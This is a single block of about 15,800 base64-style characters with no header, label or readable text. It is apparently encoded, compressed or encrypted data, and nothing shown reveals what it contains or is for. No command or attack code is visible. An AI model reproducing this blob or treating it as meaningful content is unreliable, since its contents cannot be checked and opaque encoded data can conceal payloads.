J8dTdlWIFXGgEMHeUnx7Ab90/qd5w5nW1KBwdSQ78eDD8uJ/OZRKgkdmW2t2Q4N8RieskfQAjwL1P2im3EbUz3r0JGVTGP0k7Gfep4CUyICnZjWph5fCNi8hc48Alc2vEMRdIcCYYMBXbnENaM1ORGqh7qG8qd1r1WFN7Agv0Mam7xgcB+iJKwz7m5rN3sKtV71I92m/HuMBDn8H/EcRF1aBzHHwfQ3kmlRlob/nY9pEnW8ziLoY9xCfKqjnvlZ55JyGxD+8At3WSND4Ve9aA2AYUvbYL+n2N498lHF1Z9gdE4+yfgLzN+k+pF3hUK5Oceq+XTR9NpQhZfeItR5a6xuWKVDIr93gSFA1daaKHwNsIs738qXmq+xbLjr84RsHlOeEwjvLY9UZZT6cpA0zlKbk9VCG6x0zK+IMlRRkE6KMwDfZEuD4Fik01O7dAb4XefBNN5oPZgeV8GNRJ1raol/5zrD68x3pNdZJIfKlyPvorgfrWxahXUzxU41fh4Y/6o2DBijXgUwrjm4uPlFyqzMXUApARphPXj3U63E40bbUlWIvNRGyj5fgr1MCGo4jVrCDS2GdeAWdfk4A1ApkwBa9POaWZkyQ8fTpkfdAUFKXrDuz4WxV3gFHdZQF7Se4Sm8C3Oo1YPofdxP1PhQ/tSekpjoW2YwboqKipHUp9COVUyw5hjjhjredeYwB7nlW/euJIkoj1bKIXmThXsKxVCQJV+9o8beXU23j2kRhfWdkUWp+ozS0rNf7OrxoPQhfVRSmYRrfImEyQIT8biQ1gyxuS6toaN3+pA5DEyj37GHfchqCKWwFs08LYSl8hyrAYZREVjbGoP3bbYl7HCqemcMgbc35eQYlYGvPzbE4/07yef6F0nSy6qfwk+Q6qDYwOgZxzhL4Ujudr3gEm7xJwvJ23MKmdwItRtp08HLtDy+HPqviv1vgZyA+P7UvCJ1x8FwpyFuEWRmwfx6usPjCIZW5bJoUE2MTc5Q2So71D51bUIfiIPbuyUFfERxaVPoeza+99jLxe4UTaZvcBChI2ry+zCueAK0mSJ2TuZBcD2Nr23nC5e26MUXtMV/Is/1oDpTBiQunwajSakXhoPIqGCn4c/f9h3HRmh7zAj4s6qB9UD+uG41d6JQPgJeD141rKPvFe7H3g/lfZG0NikkQGo3LlsJCfQNnwFflcK+DdkkuBL5Bks+5ynZFSnX+fOw+k2+u1KwaSOqTnao203rQPZluqYWSXA1ezEV+tvgih7s7W0lvH4y5jIZ3uGVM13bMf/pR72p46v63qXHbY/ttP9OWqhXlEPek8ANM8Xpi3Z9Z+qiNc0by8FTnrup+iuPWS8sOEOtz6DNqyfskfgxOMg5YaXjLh2VeJzYWb7fxVCbb9nYjKsMScdDBPRHawsXnt43qpKgg5aU8KhNIrTYG8NhDB8xVJY/A1uYVIaNfcEO30TbL6M/new747ufJyiJTpgELW5+mclt3jt7TxG9QWw5WzXzfNkfVqHRPVtoin8jdDe4KWUX8GmXb9XMSwn/BPOH3C8Ads87lF2dmvKGkwhHd42TUNwkjutYQZOUG/w48XEVtthj1Fl7U8Eq+r5vzScXYt26vVjUAlWBUOghJm0LrkJaziHPxM5j+f564704jhdz+Vk6QY5vHvCtXXXNuJcu+yRRxKROtOTs6KAWcOsLP8PegYmDIN6xEW46x6+9e9mEDHi6HO6qGxphakIf64zylevn/RQhMEEv8PMUFnDbsbIPyNmeCCaMGstGoO4jCvU2cFzP0PG4u33R1ap8bEe2sd2aluUWuwCWyalakM/P2h5nZIptHWceCytNrZbtHBSaieyP/wC5sqtN8Kbte86NMwVLT+OT6/XEWmnwGUfznhhkx9bCtuTRvVV1nm2uw3CfD/ghnT0xx1ZnyvgqNXWyeK41i7oaa5zqcde/aoZc6n+orYzUHE3q3XhgIIveckCDAPWFPa8M/E6MhNh/m+j/IpIp5b7Sq7lhO5UDZDoDSlNy8o+ckZMB1hi+WV2m7FMLwCZ2fm4xLL3XWobySaeLVOTNSMp5iZmud+MNzWQlaq5tkHn49UEAULmd8pMyaaN+2cXCyrZ8cYFor1LEA+8xVEm2kuE0iOURzxZ8POaYSee8N6y+nhgS8rXv6CA1KXidL8NdxwmkgiXDOocC/AqGVK8urP2gmMVopQeqXrQhQ5JhTpDu//fxiH/1mfdnMIIK4ug3AXFHq0Y7/4Ms8Qq9qBouNCHFrUA0/UJsjCPI7u93mV8VCRpIyatZVmOcaRVH/8GjmWt46Ln63Pb1I00hDKIiBn670yVWM4WS6m6h0IiENoZwYcyaKHSf3Dd7R5zO9mOZU7UjbpRSGLEVOaksBAiX9UGno5nSW0XhIxaVfDLymr7aj8UQRMsiRxX/dsd4FjkM7i+wV9ZEKl8R8e15h+3G9ahSU3Pnsezu32UykPjotmmNSHAgyq0Ap6nYihVdo8n7LnNLTzIAybgqHygwclO1PNQ68LIHrSgAe9SFTW5hyUDe7ehVuwsAqErnuL2ILrLGUIV/mVIpxdCpmywuuJ2luYo78MpPBLPQvwoLQaReMCEAhRK3e2xZE/lyGyt3Fi983gbG42V8seEjG6bM2enAme0HxvORWi2eIIx+dMqFarnstKNZ+cqR+FlEyIANCr+zb+9BuXCdDxxWy/MJcgcprHJfc2f3p6C8N333cK6njRl1xpuUVTysCll1wHMs/jp93VqN+WUiLovbDV8AH+zrT7HYVqYaA/1/ijfS6vVSOZrUdopv6o54QCXmpHc97kq3fM9wLkGYLyC5VBNGPKlAu6mtw/tOsjyzgVP1+PV+JMkeq7jTmPKZr+Ou+vMJqdcsmamh4VhvljAeBjo1qHsXyyfIlY++6GO6gPiqKi0ERsWHsxgiAfL/nRgDjU09iJoVYYhAvvAagXGwi2IAjYB5bXHCeNiNko9rLAemepH6gwNjyNDBKjua1VuIXmPP/cgECuEc8dVMWEi49kmSjvkCjF6LiVUhqeNtUGQczu3djOQE3sc/IRzRkXqWPHjmArCS9aRMgjAYQ8r7Vy736lfDB1hvWWb07nLptSvw0VMZifqb1ezVCkSOODJI9nXVevl412f9rH9l2r2u5sdZo7cKZeTRQC734IfvNslEgXCcRqTYG4reQJ4tphfukstmmvEvzBHX/yhyFxpc9wHLz8sXwqGUFHHILl9fS3+lNkSVuR6hZw4iFd+3eJXxtH3A70PJVCP8UJfRDhcMRCeaK6tbMReGhdf9ThMwEsj7KEZ/F+qVu9opLSQrCpc1UQ4rpv8BhEikDbndFhK+dsUEIHF6kVTj8gta8TO7pOyW6PqQ7JQB4eI1WSgO0glRO9MegSqtU/ywOx7hRuemN07MWXsNDg+nU92hS9kcNYHkYfqpL1fMSGPlANYR30rvzHAzi9cuvT9oZyCSgrsnOYCyUDE+ZbqCkAOyKP+rLzNBqxcoR0MFPcKAbLwNBUhN+qmHycTxHLqMTsSocFMdqjK+6R4EvawufxqobRamD8tUI4j27yP4bcu2K3ueSwH7R///ybFpyNcKt9bfjpQjOAz2CCjN75t+OfDY/bLWOXodL0TCkfcwURg+iT6S24sSsWlicbFFgRlogH3saoGoV6u3Y3+mMpSl3+S489FOaXe9klso4TYiuGFYnzxjCLS09+usayigGknzpV4gfKXo+6TLtWF3kNQ1G7gSeKiKSh5Z91bI9qUNaaBQgmsj+2aLfDHFHyNDX4/aZzUQM9YmnxypeEn8z0FeCg9+o9xMwn94Sy8iiyv08lMZ5+2XqyuL2mCeFDXc7ERzzGEJw23GmzEsPyQzziBkjrWezLe/rW/WNMdjv0+9s+gpkykCKSO0/e6XTiulDOdjEinkFQQYMuLL8Y2Wig9i4wGcvWi/uy5M98X3jSrmdyw02Zaic0Kdly7WnH51yhmMR/X/eKjOCXpy+GbeNmAn3perJw1wv496BPoFEaLUVkUl9L6gDyibtm7YrO/InQAqiWh5/qRi7Ate5O0OC1Q6dtnkJLddU+/oiZIdcvy6BXYWUy6c8ntBDBf7q8tT+n3auHxQwEGB/tuHrkTsZY4wWOx4JTddHtzGqVk+ik9DrM/gZ6LQxClO8rplpUTsMiOQ7+IKkaXkCvNdGIT2LVRhdwRWhiADw1C144iLnjSBDLl0tjEhlSl6Gnw8ycE4bBkqiRaDXcmptFrP3StO7Fkk7fb6q2IdCpn4Kfi2znbI5/xbaLYFa5IncqeyYid0ylzR2J2KO5P5Hn1blysCREw6aOUatcVDGGJDTLa0zo0WVQp5TSjJtTuDcJz2so2pC4GIlEFZLRpYWhu66vDvbIcwN6M8vWpJ9RXwOzUFTkY868udJhd/VcN6A+uPNSPUG/gzcJl+qg6On8oTBLvARlffH4HqwtbSrUvCw338kj4Q7uypu7yDSCINvoE2+Mw5oIBWMtbtqhplODeLebJN2DYPCIIggzb5UJUQtCTbIb5yKuui9FkLiahuMLvB/2T4p0jOO+FlCeOpAzOSr+WayNw6qg8HHMtkceXoVPfFO1dsNROLJdR0DPSzOgOXjlwvS4F7+DO97l6beIeO8HU+DnbHNUOfw+gzTiLQqwf/TihQ3bSddgau87jFA0gBBm8x/X7SxWOUUANNcNjcn+tNfmZid+q6Y+7Fe4/FYdH+fxU/OZjjzq4+HOTxl73pq1S1tTEFR+mZEZnHBWiffyU8dKNb8WyIrpvyTnvkUUaFttSnsGkhGe0CfpuMUHyMRBmYwHO5ok/s5T4b5jkBKWQfMtAs42F0z+Eb7jxee/Dn0LhNqaf6ZfS6PAIuBsLgwUH1qPwy0QyxP079aU731t1sMlxcOHevs58ivBeCqWKiaLsSEGWa/cFRVW9eEhfCDRoq36OZY5+WaNzO3KKgje1kyZoMfhSycpAwMVO4g8K/S0762e06KKYkJBm5f6pP7JCDzeFnSVaEbgcvsGqDvXsFkeCgRu2IqHNQNlG+Zm49QEMEIMYJUYR0t7A9rdBIYwTtHpzvzWj1Im9Km7cOYIm14BiCVWEiRs5MWZNrLsnfNfYk9i6OWH+GorTiutWLZ1pLqtdgsBL/2Bmk3ZIDgcTYxe4mG/C2F1IYTi7EwXksO/tDj8jccTXYz67GRDpypbiNOqPPvFikQlSwtsI7fs6VpOwxJonf66FaXY51nVV0EDR7p6uGK/E2pOgRJNT3tzd+1ffMxY/lqAh15S17ED68DYkHevz86A3Jg4+YNGFwhcQ6OAoo1RaiVZEIGHzxgkzabKeJw6bTDhAMIV9YlOyuL9WIar8G3ICKT6QyFaiIcz8/GtXAQc/1mCW6829VKxuiQhnJTFSr8jE3wjMFJcGv8tM/6LQgxFGGnaeiyUsZx7XF1/huPiobBQeeB+gojvc0JxfltHbF1htfWkur0o6PyAX8rjRyLU4iz5ZZUjW0kV2sItJCU3hEAWw1Er1HG+CMNXInHa8FtdbjNWHuysMNqdFt886Yvx9Hlmv0yMqdgo7HOAejAals4e/d3Bc8Gsmvckx8bmtmj1GVlmALTwsuyc3lhS4t+Dx/n+Blq+KBDbyGlusDd4zco7OFJldQI8Lib06ENFoz+qNvhJ8ucBz2icwEO23JtbBubrljURgVDK5DfYW12MXaRAwGaESRXaZKlyJFDQuofCNqxnCEHPZwU8nd5d99US6z3HRqf+5AamXknXRbxXb3rk8EklIbKgTrndK1s9QSoFz8L0yEUsT+K7VWiR+P1c7X/oxGzzDD4Wo9a03lLVqowMJZaY+0SgZefpcxXLo8CUBllyU05ztcFNiPN/rxn2OzRUq9XXp+omVYPpxvIzuAY/foXNODRiqe9sFq+inoCj4DQymml0QWAa7LKyg2A/aeYuNa4wiE4y/RdnkLtC9pdlFjdD8qt8rT9Csv8BPEfkib0VuDFy302SfffcCVZHai9ce6Xev8Q1oODK2C0wEHyTIxGpUkXwHEABeM615Jodq69rgYxTwoEhgh1tLIUviBmzbqKiH/Ls1JifIM4qs5E+kmIh/2YxDf16EVleT5gVdWEvkjGRx8E2dOedbFeLWXON7P+DxOASz+SfZetBd6q1DvoPIbNXqRYa9zvhrW59xuW1SqoiZFcoH3dwdQuxeG2Sk7vdpg07Jypkk1LPHRS053lyBjMoYRWQPuQ/1QTRBXt5ud0tBugRGU/u9rj9hhtA+qe0J3KaCMjX49/8EC/8iPlaXUIo+75zBAd+RMSaCWcWN9nygBUlEmzi/LWg329PdXxafud0O3s0cH/n/qjLZp/km+ww0X1FNyNzEPcjw6zji+Cy/0/Cht1BBLUTv6pTXnB60/dI4oBu8Dhk/9X8IxUAxT1xgq9+MG7AKmLw4dxsFnVwLGz4PaMKA5qms98shKWvcXe8+rWgGCRUQjqlMxjIcvn0My/Fmtd2RvuCqRqN/uybLh9reWNMAaXPNAGFxOni652Kv1V5GPeM48GcMLPuoGkhRq7Pf2EP4qguH4K8XKIRjyUBi8uCS38vk6qSVYqULCTUF6cs3whRA0dnndLGbAw27H56tfpDbOuVZCz7CGtGxEDDE6YKG1H4TpgZaRSue1QwbPNT8uW8+mph2Cazl5N6d1xS/XxeuPXeO5azqVZlHrz5l+uzs4T8Nw6odFbPOuc33qVZF3s3JRGrX7vkp1QNtUOIRnYHWPnUMBeWAgTOJ+phEGLwO/97lzG0aGL9LplQ4cXxTeUpeShtCUJA2oB5NbhX6xrzDuZNAP2DoyEXlS2ShYIqNf7fAG+9kuK19kTEvgN8N1/IQr2wR2mL200ktPDRv/1XTe3Wm8n9MKl/u1Ib4DPQXWxVcf6TW0Yqtf+Pe1aJVJPgFNVZYb2i54ZnOArYwT5Vzx3wkFTbakrW3mlOKqWEaLxYiwgbasTtRgvLAN7w5nPXti9Z265Y1wstZcEPNVW5T65uK6pyJAonE9xEQGsW1YKN8rCV1D3staNB5EuPZiNRjFix3zOXTSLBcgv7MJvKyMcC0dOfp14XE45W0GHqSQwfUUaJNUhNyJ74zWl01U5AwoGyWNnM/409YipSCgFoMCjtUmeJG7lXxqPOdVEL8fY+3uaZs1Yvih9SNiFfJfcuTw3gGa5i/73IeSqSqh+DYRq1bzs+EhltfGndJyANnbbt3ywQpx/gNJQczsEOWN9EPokkYMLOIg3N3CQ3o7h83LNLV29U6Yn6IIf0o1Oyez9zeNyEBELWiVruOwFD8dMyBwBB8IB+2y2gnTRMbum5Vy+wvgQp/C2UNCccd5SyHzHYvubE3kw/LlJyA/SVtnmAV+T0UvReGAaDJq0jR9dUqquEt6W5JzpHIt9xcjx2dGRz2DIzoRTL+7B3P5LD501wQ14+vag9uw4rIujoLDEz2gO2YZHB9MyfZ7tWiVmOVReIixy8HEfU8VDJqjnwK0n5f0y/teJtnzNrDGBIuLLRXcmCKq+ouFZkMuQWao3NgXmBk4BiJnhfjHi9K5cd/O/lx5rPe3naZyVKNSwD3i/Q8dLpVU5qh7Flph95yOCe8Gk8Kh73R2/OOu05WRtxbtRszvuEuSwgJHVq2pEb25JhX9xbb9SUEALm81qXl7BSNM7BhM+BRtQoHJzZT/jOLpW0byVbKm/EyQHDsUtvzgR4nvWnCXWZdX4Zoo53q3dIoUY14sqozxEoZt0KQznZY/YsiF1cj7klfsB7K7iI4xJtK8GVTu0/Agvi+pnxWQgB49MRk1E/28+Lv7E9+D4aoXJcsFn/qTpP+HRT9wAszdn26zdfQMphz7SHse/b3GEuiBr5G9beRyI08lPq5FRoFLCyj3rAkNUJnAhVPd4iT+rlQYIrFBbMGVaWS13FZh8GEl6qx5dJXUk6HdqZj+4suvZl97UadvJzYJAGW80zQ4R80wx23dfvf5l6u/a2SXbNErurH+qit7z8UTMesft6uOxFRzBMKFtdpYnel9XkjvXbWehyDj51UholDmgCCbuJM8rjPuveZiEh0ZKRPxvrkY4TFxrV5aYeQuQF8azaPmfwk5jGoC52ddJR424qKZ11le/Y2CyXBN3FsQY/NcH1p9eTtMJ0TaqXOVKvA3flyw5IcbFAVJT8DIKQDymqnJ33GBKdRSllRC1L0/gITg214f7ELnkQHKyP4w7jXVAXKHIhU5SjB0ClettxXXLYfe2rrmwL2JzAjy5zvY391sBrPmfa+KtlFwn6e7U07VOGk/n/eIdjLpFfMi/Ru3tjXWSbUWVTiNqK6heplbXmdIDcNiiAbo39HKpxgSn+QSi6ZgpHtr/4BK4hdRwBS/lH21wRVLIE//LtvZYvN+VQT9xutsABJQPBOsyCALKSgcs6HRlT7wA9FFAZ0So3wPSw5mFTY8kLgOO8mKV0duDBABCnLkPVkAaSgHIWYteSslJNVvuTpff/JTIQcXjug+572C+I1XJBbRAR6z7BwrMiEe/0GQLbGS1138hz4kcPn/0NEr3Uqy883GnW5rd0nsl9p2M4Fm6A/PqI5xz6WwUN49KrooofvstSCyADwb95VxOSWRHOA+QcWMjAgUZ90UNjEJEQ9l/dmOtZV9Utuut73Ljst9ZanC4cQt4H31jYyJxQbbRMPE2L05MVWcMMC+f7ZyAc+b6Xqyw2jq7rZ6mJlBGJHRlXBZ5C7ZDM61WYu/Ug8vE/BhfZWR4fcetIbCxHjeU3wnYFzwjaF0Q5M58VxyhPBqtyLhAil7KXT/FdEVSOUvVts9Ie5Fco0lO/6gv5DVTTVitkr4GXUaMUR1Tirf+NchjooCd4VUmwrNYGwei5wfhSWUXW1BFr+8/oRwMTnrhm2iMQRPh596dibOjn16S5lSEbCkOWvbzeH/2N5ZKDWB1ifqQ77w3RdP9PwmJXFtBqjODDJjVTYqoCXEyHMlmp2wdMenUsMbXX1WDkfVy/I09QNlQzKBwOrkpyLId+p8Q5cAgFGDz7eYv1oBbs4XAl7Y+Q5YCe1t9vbd9fqeLHR+TI15kx7wIkMu/KA5AULvKxRXJbHzjorBxSNr4Hjf2AYgZctvrtYK8YxMz9ktOc8ZJq3Uo9IL4uiGrHJDh+jzJiuSIjBTzce8IxftLjaAvlogZ8JHsmmfgUeT/JbybUjywGwXq0dZ+x0woeicvFlOeied3p1yqk9J5wFVGKcZmrIT2IDqibeixzXtZ+2EDmzOL4YiwxoZ+0Tcn/AYQ/grwIs1n4cUCuOlphzt4/pyx8yogLYQo0SMP2nGJcCy6ruEulr/qX+fWCkBqbIejOHnCXnU5edg6hMN0rcG86HcNq9f9VepyfbhsnrRpR9IOjYDAwqS4vCNI7z8V7n1RdaTfPdXO4fYQqosPdFqhHkW8Crg2KHDzhUaneKhLM/6ahFQvPL+BAoyWhH7sw55ztHy0cZSzue7cn1whydWxtCcoMI9RVACGtSWRf0/3g0ZuR7my2e3YBY9Obf/05FvcpQ75CRDuazvBfZZbS+ILNpO58zEGeJ4NJ4iO+eMQUidF46aKZD3+c0Rf2KvxAjmDq87/kOW5dmEkSn55TOHGZ1ohiR4UWKSIlmDP+iBdV4Vo/pNxINU5u6ZLjJ+iFTqdto28VYgEQ4dbG9pf4YHBfWXrFiYI7dDTahEe0cb/uX7VN33iQGrNeGCX+T2AkfCvrZFUQTuxyhdZQZPM8IsvvRlbRks4PC8Sw1E/824m/nIXScV2CrwZv9MvP2CNUcrzRUt9wQunzaKM5jPhsT1ocJHmaDRJuANKJBuw/uyJCoBEP8VEHh8963gzhlzp5HmgLO3OOUQMYKYagK45y+KGsVYgn0SUXKMm2/bwUqVSTOQwbFBklEkAQzz4dx6+gKOe59ADLD4x5ObHDE6wHAMkG5yHjD7awMGxQBp8t9rxG2Eby/BoYV7AfHQuYmuJ3TItk035VjKaASQlNxOfrRFKZKj02EuhHWiHOgF99cgyvCVtsB8OEAoTeZcqduHy67VoFQfSGG3XWawNFRBxux+MZ0krpfcFTxj+otOwx00Uw+6fsPnUUTLt+dwBiysPdfZ2ges2lvJpLXpt5FnF9bznibhGdJc28DW5jOj3UjtPihES7ImuT+/4o7oHqPFgiTxw00g521v5H25zgAcsuULGizb9h6lB792tc/GtCL19Y6okfKYIZM9rCoVowh/vJ8A3mQEQGamJHUN4AkP8jFs6V8y86EjeAaTQ+jIkI9bfaCPsAEuzUy4vK2qXEkRFReKIVYu9GmICw0++10ghqhb/lOfz3k/xwBOZlpGpSgBi0lQOB8QvObXL4YtDKKwc7+N0pstm8DVMCK38ys28vMYfUyXqQEUwV91Zxa2dhBcru9iH9OdaByFF2WT8q4jmnbHJRfvGlH3I0mKfdl5hPwUfxZZTXjL21zLS/hbOWUEbZ9VUp8872gTLJagpEwrbEdFb0cv26qBlkUgYIv+G+h6XdawCB831FKnWWXu3rV87d3D72TLS988F69HbDPFBU8HI9JQolkieV9KEa9MowA5SNNkmPTmhgeQO0FjMLbLWWG94hrx94zw1jroCYOjYIS4l57+h/jki6bGH55tk+2fZlnYE+KdDcIp67ybbDRAdEobPgySfLb9gEn8uQy3fz97d4cgPSQhyyJk+ddUxBzRYWZDGseBs/rt1hg5wadG0qcmyXbmxFiJT0spksKKpALcCvVbOmgMnI5fs8DI5+S76gvug8TbHKHc8ZOQ2QeQ+Rbo354awSRd9px1/Mcv1IZ7ktEvY/LSKRaeNw+DWq76+GPYHKp7zstG2F0FJXv0FV6GAXft9HtK0jDx1gN27norRYPMnuFnzBL7IeddYg7QZKbUe4vFZbUIB7iKKfxL/glY9FzS1bpSGJqfuVUwpTCOyzZxo9Ydx3hOQiExPjn1e7cDhmg69NMHk5aqTzb69o0kOZivRSthU22DzlwmWS5Yc+uo2xTDAsc4PSyKyvGqIwpzWk6Y0w4Fq7YEuyO8soukxIxz+6+r5W8RYODxs9bJ4VlEzNElcZsxXlkwRB0O8m145DQ+wCtw+G2UYEvx7hPo2W85m7UVsQvxDK2/awW2synfwKN7FnWNeloflM9lC0am5pFAXpZyoZUB2zGSoSVQvAg8OO5FNGLlA/82u59pmwY7wuupnvvCjqDYwjQyz5uKORzhRrnA1l0C5gD4KDM/A3wRgymZBBzb6yCx6PBDIUTRx8TMvUtAfKlwSTw5jjOfZMRx2ND4+WJ+3CprKUy3V7Qc551WN6MTaS3kBTRh0/N3xpqc6ontFEWAcw/07NPoxcyoCI7ttxs2NrfO5u45pZUXy3PQ1rJk5RxUjtdU7QASVK65xEZAu8W3dEcsKJN2znEChmDa/uGgjbp5SkmkM4tpjeqA1pcDe5ZPGvWL9oumCDYZ983yoEvWvd0qO3QB13fueQNMeDA/xjklLDqQEdk4T2BgEKQe1hHQ2cNlv7IzOEkE1+UkcULP+t7PekhyJUZirgBJLjCwbS/YQHJuT34Oqm2TS7MqXNTDrNyGRSixLwd43uMbx8HcRPBLgyFOXvlTj+zW1AnhaX0w1jwDSYQGJl8HZVCCX9nc09k8aUVP0sEcx2wWec73c9JGchXGTSh32fEWFso8MQc0RR7gk0Pg7tzWivWujoWmQH4fY/wRM6Egw2nKWKSClmmF0eYaGP0oudPeuD3MFLbC5q3SE45e5wq6dI55jsKY+au1FJZWn6V097LLKcuzXE5SG7yz/8XXsh7gKmjKB5m6m6R4BwOl/bOqyF/bONw3ouxwnENIrecxpoi3tdoBizzEuw/WwBgBP7SFujeWctMaQWNbkT480/Q1bUd9L0ThdAuVpIgwi8Ud1n+3eRBCn92JTuPu6ZfJGTsnajPr8V7n/4XLYsTWPyVwMv06fu35MV3qbYyLld7knztt7SovMlZu9c/ZHO4KJhXh+ZrYaSRE/CrW6b27sWFGB2BFsH5Vx8Gcp055q9t2JeZbgUpHzWv7SDtUqF5LmsZKp4TQG8tATjNv4dNprP+YjdtWQVTrlQis9nc1078dCivSO5+2Nq3pXCUGJdDHehR/OYKT6lDKTQPVSBf5q/clT/0V+sJTG29ShrtX+mxm1T2SfsaKjecIvqJZnDKGVJd8YGFMliFg4z4Mjmp9JK++IHcCRnXx8Gr5+Q5oloxpiTMfUHJmscj4/Thln8XWGRJhHd8mUtN1aDhJdhl3mKPABqp+E1UP1MrWAWPcZmZCnL4yrbqK5UB6frDOiCxE44ni6eFiP2o6gihA+NkkElhka6SmnFebmoP3a1CP2wumy+U4P7Jh9535onfXLAwvAOV+Qtb8rrQ9pS+CVnsZL8r1lOgDNTRzQhMjlAhlTDGQ91enF+8yy6FrhQzPzC36HLjnpMSrM9tcO4wshb/Nm7dQ0D1YavMDKptTlWBWAo99hFvo6ufm3NWpV/Wtd1WoguESKAFSV2N/hZ5o+19ywA9e4JJXRS2A0RL+7aRLsVLn3wgXhox3FGU4Oi940Gh6hQi02NzFRv+oywEchUfHF0gZhOc0Ovxpy/+f2dETl0FZOJFkJ/OyvXX6gnbl7+W2a2vlopccK15ryBmZX+mXpThq/uKk3G8KPC/No8ZTcD9oUxdCUe1ojr72q+wVZsSUJuMeQ0z9efR0OEaXfFKnvsLo5cko8TTqIi0aoe13JX8eBDzhcQzz97rYbsbfrmKUpyMyN+JOnPv5pHUgNJkco4qFTz9HS84NjTFGjKdQStJZUdStPDF5P4IDtARskCShCtvTZ8rjDMzWXpn3wwZyDtwmzm1Yz6ef5zJ43HfINwXZpJlGC+gqovJmoJHXoNV2mIPRG+qOmamqHvXaAi84p7HX7ZxKc16a6c3SP7TuZg+NXTPatdYi3zF49cjjs+xRmakQ+O3HvmojKv7q2eQ9u9HacbViIGJyaU6u/T2ODiAJOIBbbHPurg3jHAm/AauFuZjCqarOd0zzjGwtboeChluhxOT9SD8twdSKC5qpksBxlQy8bn1iAU5Wq7wIJZf6cTsSgk0FpSRQRHh+65iskzZM3FqM0a90Msl72sVdcWpPSU/pYnKLOw/HX51UJB2Dua2WsiTFjUVSlkklG/bZeBzfN3dBov2TIjOGC2YW3KN3k9Qz3RwFQrxWRCNLQVzQWw36vTFsLwTChY6xpaUQlCPYKjG4/9Ch7TkDtfIplpfA7I+Di3XG3326cgso4HhHZfZaW+rlt7JAd97elhgrEwkP8Lv6Bsh1PmOO1AfVSXyMvNPq8xDghIorZ3BZ5P7UF7WvTzETIhIXWSZlXX0QlMyXm1UMLs/6efc+fgkQ4zSr+aHwjqpRbk6udhcL+8aCnWIt+Y089y0tfMP8Ldr5XNpQ+vaMbyW2Jeen/kX6/jivngOm8nl2iga7XLSap2rpEmOTHZOvMhN0ZRtqn64YiC2cKCCLMVHF2yOQ21OqnfZVwwBj8tuy1O8CVRxrA6HoZpi2pJiOX7C/wiR+JgjcQKX5+orBXV6SEtdAp0554R9FXs2oNBvEE3EuPck9yhb8nc1rA96cPFgIQ+TQvmq9PuT2zzKeFH15WEKMcGyeNFh+uWw7xWJJSvYsnw2Qmzb+0Ss7CrjedTdE+Lz6mwuPFw7xLPl5GCPB1x8xWpd8XrRa8xL9l7btKgLA990eUAzoH7eTVLDYxPe74B77A6b+gA5iYS3DRSxXyDzSA0Frw1fGVSuHksRS5VyB+IYnP+HqlDeCwh5Mr2k++7s77zoFEJbqswKh4AwP+M8ST520CMeWRKxWJ3zokNLaRsjXY9fJKM/2G7nfg43ulbcGRFYZJs5IADX+c4il3rwyLaT0c2gfNiWGBI+Za06wp9OYdm/oO+1fWgr227KZHEUSHlat0KHh2OOCjTzR2lg03RcC11RCBPnCOAUqdHDvb4YkDUx4sCg6CzabiIQ/a8IRbXkW9YXs63pJ3Nky6FCilvBA+HwsTw2V+esSsEbBhMZZ3zSu/63W5rg+U1Mc8wZlE+4q3nHtDy94V+9zgT2HXZEYqC9jB4imxpwBM02tL/3RsT9Me0rSmHZ25LEnHzLfgklxDNe1Hj6tQA+8VnSH7pIOLmadW08NxntqUdHnlC+Vh7p62N3vg6CbnUdma6fq7ig0TSRJbso9DEjjJuQg9KFtV9yvi7IrrPm5BA+6rGXYgiQ3f5hZKUTEK+o2L/bFEJW+TGK4tObP54Qf7ZpjZ1lNkA5t19yoEPoN3VC36aQ71sKFfVYwCprwnHp5uMRdPVkdnsbVTTLcxg/ZGWcF1cRzpSC4S0a5uriv5yK77gho3rHY+3ZuWsq8HdRaoqZ5fq7XVKbYUhtpiZ/uJOzJExpejLFlyZnWxuGStNyMYuuiszbLOU+APaYJ+PVk7LMnfnzd+amtL27tJVz4cToWdN55FcnRa7fniu5CsT/4NaX+Ss+ru75vU3EzSRl+CbGFZuyMsEhF+qS7GWUn0zKxVRS6zNcT8dxxbfyckqM7IdCf1V3caZpaM85Nounod+NuH0oFTQGwam7cucDOHd7aAE6nXWa/UuGuHY+Wgy0JbakfPMPl7SiAjK+qZU7XAU0z4Ehdc5pIcXF9g46LiWFdb5Gebos2C6UtkmslSuN9yoDcA0w5Ho2WeDtwqp8nfNrwm0dly4Ny79guyeZuchHvEsa7IHJjYF9lA6UY8bdRVL3QBCGrDEcPO3BhVkOwxNWUJ1G3qGL7K1+fQ6VuTC2bjIGuDknXG2tdALEzvPY3lUgqpWTiDzgMEafBakzWJeOO9JP32uQnOLGM55//mkbPOGqtJcQlg6SWTQB146IXrTyfXxojdOy99wAujYmLwz+8mXa4RXd6sNDI1MtNRj9o7OE2CboI0a3EqDzeUvrruLTfw19NJ4W/UYxqqRSq6aPxYcjho50WNdeg5QrxlumC4c9fQ+WSU1Y9wdIApKFVDVhafRIUOUghdr/5F8DCkM80rCbK5zEi1FmLGzWJFC3ebzaKa6DE0vtGHIboHEOaffzAwuNNreksjUp5w8lY+7CbeZBg+9YTdPCB/KYrJDOE2LI0BgC5TD5IrX42Dk9JurmQG0IArC6cPWik31+IDHCwASQ3cwvrN2m190UBdnIomnWTBlh3e8vFWxFMGzAOgOkD8xq8qNzitHYQptUV1bDiI72BpL+u5q+TR4nri5njWbUijHOZjcpv0vStBKD3n49p1EQbLmcJuVDEaM+HH/EHcx3zvFpSFh09iiHJEgTi579gLWIN9/XPSDJbe8os29/mUHUj6HzWIxYMEfIPY4pW5ks8ZbgXot0NoGNoYxl65u3b6P9oKf2re0I5iNNXASnxHhOTPM/imxjE5qyR4ijQOnA3QBvoD9QzbjD/00rtXQLnejOascLxHps5ogfwdF193YKAnEAJTrr1ULCGYHLFewshGiVlQ8oXdNoZf17Sa5yKqDwpwXKz6fZGXxTtLTy29jShPKs2T68NGNJuB9u8Eo4gf9Wz6BwKIFR4pun4N6DntC6sADmGzvMm2BwqMmRz3nvjdmvXVFtcK+FMbDe4X3lNI6ENukfTV4qGE5ebXVYRuieyA2EcCFQXwscxrc+YOdbSiqtOZO6Joiyh0EnIAcsqu4Pjp+VwNzrejccdmlqiLhEwFfRrtoGha8JwrLzo70STcTdMLiGFiEhfQe0LgJrvSFuV/aDTt5xkFv7TTKQK+KD93fO2YCEBDeJwXfBwp/ExUTKO70BdWtA4H8Zbwq6ivDQBTzFTXRtH+qGZQVaTOuai/++sgRzwuvWYxJ3ioIhyISpDiIs84cbubuXgwKKw4ewpvzixR+FY2HmDM/qa4KKDdBDMxCnteYhfW2at4JmNIkMeNCuqxu+